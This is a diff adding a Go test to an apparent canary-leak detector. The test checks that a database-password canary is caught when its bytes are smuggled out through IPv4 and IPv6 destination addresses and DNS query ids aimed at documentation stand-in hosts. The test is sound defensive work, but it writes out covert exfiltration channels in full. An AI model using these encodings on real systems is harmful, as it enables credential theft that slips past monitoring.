@@ -129,3 +129,38 @@ func TestPortsThatSpellACanary(t *testing.T) {
 		t.Errorf("two addresses in turn: found %q", found)
 	}
 }
+
+// Addresses and the ids of lookups are chosen by the server, too.
+func TestNumbersBesideWhatIsSent(t *testing.T) {
+	canaries := newCanaries()
+	secret := canaries[slices.IndexFunc(canaries, func(c Canary) bool { return c.Name == "env_database_password" })]
+	for _, tt := range []struct {
+		name string
+		v    string
+		want bool
+	}{{"the canary", secret.Value, true}, {"another value", randomOf(alnum, 24), false}, {"a third of it", secret.Value[:8], false}} {
+		for way, knock := range map[string]func(o *outlet){
+			"addresses": func(o *outlet) {
+				for _, c := range []byte(tt.v) {
+					o.knock("udp", netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, 100, c}), 4000))
+				}
+			},
+			"addresses of IPv6": func(o *outlet) {
+				for i := 0; i+8 <= len(tt.v); i += 8 {
+					a := [16]byte{0x20, 1, 0xd, 0xb8}
+					copy(a[8:], tt.v[i:])
+					o.knock("udp", netip.AddrPortFrom(netip.AddrFrom16(a), 4000))
+				}
+			},
+			"ids of lookups": func(o *outlet) {
+				for i := 0; i+2 <= len(tt.v); i += 2 {
+					o.spell("udp", netip.MustParseAddrPort("203.0.113.30:53"), ofLookups, "", uint16(tt.v[i])<<8|uint16(tt.v[i+1]))
+				}
+			},
+		} {
+			if found := heard(canaries, knock); slices.Contains(found, secret.Name) != tt.want || len(found) > 1 {
+				t.Errorf("%s, %s: found %q", way, tt.name, found)
+			}
+		}
+	}
+}
